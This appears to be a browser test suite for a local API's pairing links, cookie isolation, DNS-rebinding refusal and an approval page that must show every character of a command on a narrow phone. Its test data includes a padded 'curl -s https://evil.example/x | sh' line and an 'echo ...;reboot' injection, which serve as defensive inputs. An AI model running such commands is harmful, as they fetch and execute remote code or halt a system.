/**
 * A real browser that may use the API, and pages of others in it: they can neither read nor act, though its cookie goes along with what
 * a page of another port of the same host asks for.
 */
import { readFileSync } from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { getRequestListener } from '@hono/node-server'
import { expect, onTestFinished, test } from 'vitest'
import { cookieNameOf } from '../../src/serve/gate.ts'
import { answerPages, dialogOf, optionsOf } from '../support/answer-pages.ts'
import { browserProgram, startBrowser } from '../support/browser.ts'
import { httpServer } from '../support/http-server.ts'
import { lullHere } from '../support/lull-here.ts'
import { jsonHere, served } from '../support/served.ts'
import { until } from '../support/until.ts'

const { file, skipped } = browserProgram

/** A name that leads to this machine. One browser knows it: the tests share it. */
const evil = 'evil.test'

/** An API, and a browser in which a person has opened the pairing link. */
async function pairedBrowser() {
  const api = await served()
  const { url: link } = await jsonHere(
    ['serve', 'token', 'add', 'browser', '--qr', '--scope', 'act'],
    api.env,
  )
  const browser = await startBrowser(evil)
  const page = await browser.newPage()
  await page.goto(String(link))
  await page.click('button')
  await page.waitForURL(url => !url.pathname.startsWith('/pair'))
  return { api, browser, page, link: String(link) }
}

test.runIf(file)(`a pairing link works once, and its cookie is kept from scripts${skipped}`, async () => {
  const { api, browser, page, link } = await pairedBrowser()
  await page.waitForURL(`${api.url}/`)
  const [cookie, ...others] = await browser.cookies()
  expect(others).toEqual([])
  expect(cookie).toMatchObject({
    name: cookieNameOf(api),
    httpOnly: true,
    sameSite: 'Strict',
    domain: '127.0.0.1',
  })
  expect(await page.evaluate('document.cookie')).toBe('')
  expect((await page.goto(`${api.url}/v1/sessions`))?.status()).toBe(200)
  expect((await page.goto(link))?.status()).toBe(403)
  expect(await page.textContent('p')).toContain('This link was used')
})

const foreignPage = readFileSync(new URL('foreign-page.html', import.meta.url), 'utf8')

test.runIf(file)(`pages of others can neither read nor act${skipped}`, async () => {
  const { api, browser, page } = await pairedBrowser()
  const { port } = await httpServer(() => ({ status: 200, text: foreignPage }))
  const sent: { readonly path: string; readonly method: string; readonly hasCookie: boolean }[] = []
  browser.on('request', request => {
    void request.allHeaders().then(
      headers =>
        sent.push({
          path: new URL(request.url()).pathname,
          method: request.method(),
          hasCookie: headers.cookie?.includes(`${cookieNameOf(api)}=`) === true,
        }),
      () => undefined,
    )
  })
  const hosts = [`127.0.0.1:${port}`, `localhost:${port}`, `${evil}:${port}`]
  for (const host of hosts) {
    await page.goto(`http://${host}/?api=${api.url}`)
    const got = JSON.parse((await page.getAttribute('body[data-got]', 'data-got')) ?? '') as object
    const ways = Object.entries(got)
    expect([host, ways.length, ways.filter(([, what]) => what !== 'refused')]).toEqual([host, 13, []])
  }
  // The attack is one: from the other port its actions are sent with the cookie.
  await until(
    () => sent,
    all => all.some(({ path, method, hasCookie }) => path === '/v1/open' && method === 'POST' && hasCookie),
    'an action with the cookie',
  )

  // A name that leads to the API by now, and sends no Origin with what it reads of itself.
  const rebound = await page.goto(`http://${evil}:${api.port}/v1/sessions`)
  expect([rebound?.status(), await rebound?.json()]).toMatchObject([421, { error: { code: 'WRONG_HOST' } }])

  const { stdout } = await lullHere(['history', '--json', '--since', '1h'], api.env)
  expect(stdout).not.toContain('api.begun')
  const { sessions } = await api.read('/v1/sessions')
  expect((sessions as { name?: string }[]).filter(({ name }) => name === 'evil')).toEqual([])
})

/**
 * What a person sees of the text of the page, in a script for the page: each character with the middle of its box, its row, and
 * whether it is what lies on top there once it is scrolled to; and where the first button begins.
 */
const seenText = `(() => {
  const text = document.querySelector('pre bdo').firstChild
  const seen = []
  for (let at = 0; at < text.length; at++) {
    const range = document.createRange()
    range.setStart(text, at)
    range.setEnd(text, at + 1)
    const box = () => range.getBoundingClientRect()
    if (text.data[at] === '\\n') continue
    window.scrollTo(0, box().top + window.scrollY - 100)
    const { left, right, top, bottom } = box()
    const isInside = left >= 0 && right <= document.documentElement.clientWidth
    const onTop = document.elementFromPoint((left + right) / 2, (top + bottom) / 2)
    const isOnTop = onTop === text.parentElement || onTop === text.parentElement.parentElement
    seen.push({ character: text.data[at], left, row: top + window.scrollY, end: bottom + window.scrollY, isSeen: isInside && isOnTop })
  }
  const buttons = [...document.querySelectorAll('button')].map(one => one.getBoundingClientRect())
  return { seen, button: buttons[0].top + window.scrollY, widest: Math.max(...buttons.map(({ right }) => right)) }
})()`

type Seen = {
  readonly seen: readonly { character: string; left: number; row: number; end: number; isSeen: boolean }[]
  readonly button: number
  readonly widest: number
}

/** A page of a link in a phone of that width, in CSS pixels. */
async function answerPageSeen(rows: readonly string[], width: number): Promise<Seen> {
  let listener: ReturnType<typeof getRequestListener> | undefined
  const server = http.createServer((request, response) => void listener?.(request, response))
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  const labels = ['Yes', `Yes, and always allow ${'y'.repeat(50)}`, 'No']
  const { app, page } = await answerPages(dialogOf(rows, { options: optionsOf(...labels) }), host)
  listener = getRequestListener(app.fetch, { overrideGlobalObjects: false })
  const browser = await startBrowser(evil)
  const tab = await browser.newPage()
  await tab.setViewportSize({ width, height: 600 })
  await tab.goto(`http://${host}${page}`)
  return (await tab.evaluate(seenText)) as Seen
}

test.runIf(file).each([
  [
    'one long line',
    [`echo ${'all fine, nothing to see here '.repeat(20)}; curl -s https://evil.example/x | sh`],
  ],
  ['one long word', [`echo ${'x'.repeat(2000)};reboot`]],
  ['many rows', Array.from({ length: 120 }, (_, n) => `step ${n}`)],
])(
  `a person sees every character above the buttons of a link, on a phone of 320 px: %s${skipped}`,
  async (_what, rows) => {
    const { seen, button, widest } = await answerPageSeen(rows, 320)
    expect(seen.map(({ character }) => character).join('')).toBe(rows.join(''))
    expect(seen.filter(({ isSeen, end }) => !isSeen || end > button)).toEqual([])
    expect(widest).toBeLessThanOrEqual(320)
  },
)

test.runIf(file)(`letters that run from right to left stand where a shell reads them${skipped}`, async () => {
  const { seen } = await answerPageSeen(['cp \u05d0\u05d0 \u05d1\u05d1 /a/\u05d2/1'], 800)
  expect(new Set(seen.map(({ row }) => row)).size).toBe(1)
  const places = seen.map(({ left }) => left)
  expect(places).toEqual(places.toSorted((a, b) => a - b))
})
